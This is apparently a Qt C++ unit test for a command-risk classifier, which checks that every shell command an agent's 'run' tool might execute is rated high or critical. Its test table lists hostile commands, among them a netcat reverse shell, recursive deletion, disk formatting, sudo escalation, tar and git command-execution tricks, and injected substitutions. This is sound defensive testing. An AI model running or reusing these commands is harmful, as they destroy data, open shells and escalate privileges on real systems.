// SPDX-FileCopyrightText: 2026 The Signalbox authors
// SPDX-License-Identifier: Apache-2.0

#include "engine/tools/commandrisk.h"
#include "toolbench.h"

using namespace signalbox;
using namespace Qt::StringLiterals;

//! S-27: no command line may pass for less than high, whatever it looks like.
class TestCommandRisk : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void neverLessThanHigh_data();
    void neverLessThanHigh();
    void networkAndFolderRaise();
    void showsEveryArgument();
};

void TestCommandRisk::neverLessThanHigh_data()
{
    QTest::addColumn<QStringList>("argv");
    QTest::addColumn<bool>("critical");
    const auto row = [](const char* line, bool critical) {
        // Words are separated by a bar, so that arguments may hold spaces.
        QTest::newRow(line) << QString::fromUtf8(line).split(u'|') << critical;
    };
    // Harmless to look at: still high.
    for (const char* line : { "ls",
             "ls|-la",
             "cat|notes.txt",
             "echo|hello",
             "true",
             "pwd",
             "whoami",
             "date",
             "grep|-r|x|.",
             "head|-n|1|a",
             "wc|-l|a",
             "sort|a",
             "cp|a|b",
             "mv|a|b",
             "touch|a",
             "mkdir|d",
             "rm|a",
             "rmdir|d",
             "python3|script.py",
             "node|index.js",
             "make|all",
             "git|status",
             "git|log",
             "npm|test",
             "./build.sh",
             "tar|xf|a.tar",
             "sed|s/a/b/|f",
             "awk|{print}|f",
             "chmod|+x|a",
             "ln|-s|a|b",
             "tee|out",
             "",
             "rg|--pre|sh|x",
             "less|a" })
        row(line, qstrlen(line) == 0);
    // Operators mean nothing without a shell, and do not make a line look safer.
    for (const char* line :
        { "echo|a|;|ls", "ls|>|/etc/passwd", "echo|$(id)", "echo|`id`", "ls|&&|id" })
        row(line, false);
    // Known ways to do more than the name says.
    for (const char* line : { "sudo|ls",
             "/usr/bin/sudo|ls",
             "su|-c|id",
             "doas|id",
             "pkexec|id",
             "rm|-rf|.",
             "rm|-fr|/",
             "rm|-R|d",
             "rm|--recursive|d",
             "rm|--rec|d",
             "dd|if=/dev/zero|of=a",
             "mkfs.ext4|/dev/sda",
             "shred|a",
             "git|push",
             "git|push|--force",
             "git|-C|x|push",
             "git|-c|core.sshCommand=id|status",
             "git|clean|-fdx",
             "git|reset|--hard",
             "git|config|core.hooksPath|x",
             "curl|https://x.example",
             "wget|x",
             "ssh|host",
             "scp|a|host:b",
             "nc|-e|/bin/sh|h|1",
             "rsync|-a|.|h:",
             "sh|-c|rm -rf .",
             "bash|-c|curl x",
             "bash|-lc|sudo id",
             "python3|-c|import os; os.system('id')",
             "python3.11|-c|import shutil; shutil.rmtree('.')",
             "perl|-e|unlink 'a'",
             "perl|-e|system('curl x')",
             "ruby|-e|`wget x`",
             "node|-e|require('child_process')",
             "node|-e|fetch('http://x')",
             "awk|BEGIN{system(\"rm a\")}",
             "sed|-n|1e rm a|f",
             "find|.|-delete",
             "find|.|-exec|rm|{}|;",
             "find|.|-execdir|sh|;",
             "xargs|rm|-rf",
             "env|rm|-rf|d",
             "env|A=b|sudo|id",
             "nice|-n|5|curl|x",
             "timeout|5|ssh|h",
             "nohup|nc|-l|1",
             "busybox|wget|x",
             "setsid|dd|if=a",
             "stdbuf|-o0|curl|x",
             "tar|cf|/dev/null|a|--checkpoint=1|--checkpoint-action=exec=id",
             "vim|-c|:!sudo id",
             "kill|-9|-1",
             "chown|root|a",
             "crontab|-e",
             "systemctl|stop|x",
             "mount|a|b",
             "reboot",
             "docker|run|x",
             "psql|-h|h",
             "at|now",
             "chroot|/|id",
             "unshare|-r|id",
             "apt-get|install|x" })
        row(line, true);
}

void TestCommandRisk::neverLessThanHigh()
{
    QFETCH(QStringList, argv);
    QFETCH(bool, critical);
    const RiskOpinion opinion = commandFloor(argv);
    QVERIFY(opinion.risk >= Risk::High);
    QCOMPARE(riskWord(opinion.risk), critical ? u"critical"_s : u"high"_s);
    QCOMPARE(opinion.source, RiskSource::Floor);
    QVERIFY(!opinion.reason.isEmpty());
    QVERIFY(!opinion.reason.contains(u"%1"));
}

void TestCommandRisk::networkAndFolderRaise()
{
    const std::shared_ptr<const Tool> run = ToolBench::tool(u"run"_s);
    const auto risk = [&run](const QByteArray& arguments) {
        return run->floor(ToolBench::json(arguments)).risk;
    };
    QCOMPARE(risk(R"({"argv":["ls"]})"), Risk::High);
    QCOMPARE(risk(R"({"argv":["ls"],"network":false})"), Risk::High);
    QCOMPARE(risk(R"({"argv":["ls"],"network":true})"), Risk::Critical);
    QCOMPARE(risk(R"({"argv":["ls"],"network":"false"})"), Risk::Critical);
    QCOMPARE(risk(R"({"argv":["ls"],"cwd":"sub"})"), Risk::High);
    QCOMPARE(risk(R"({"argv":["ls"],"cwd":"../x"})"), Risk::Critical);
    QCOMPARE(risk(R"({"argv":["ls"],"cwd":"/"})"), Risk::Critical);
    QCOMPARE(risk(R"({"argv":[]})"), Risk::Critical);
    QCOMPARE(risk(R"({"argv":["ls",5]})"), Risk::Critical);
    QCOMPARE(risk(R"({"argv":"ls"})"), Risk::Critical);
    QCOMPARE(risk("{}"), Risk::Critical);
    const BlastRadius quiet = run->blast(ToolBench::json(R"({"argv":["ls","-l"]})"));
    QCOMPARE(quiet.touches, QStringList(u"ls -l"_s));
    QVERIFY(quiet.insideWorkspace && quiet.reversible && !quiet.network);
    const BlastRadius loud = run->blast(ToolBench::json(R"({"argv":["ls"],"network":true})"));
    QVERIFY(loud.network && !loud.reversible);
}

void TestCommandRisk::showsEveryArgument()
{
    QCOMPARE(commandText({ u"a"_s, u"b c"_s, u""_s, u"it's"_s, u"$x"_s }),
        u"a 'b c' '' 'it'\\''s' '$x'"_s);
    QCOMPARE(commandText({ u"ls\n"_s }), u"'ls\n'"_s);
}

QTEST_GUILESS_MAIN(TestCommandRisk)
#include "tst_commandrisk.moc"
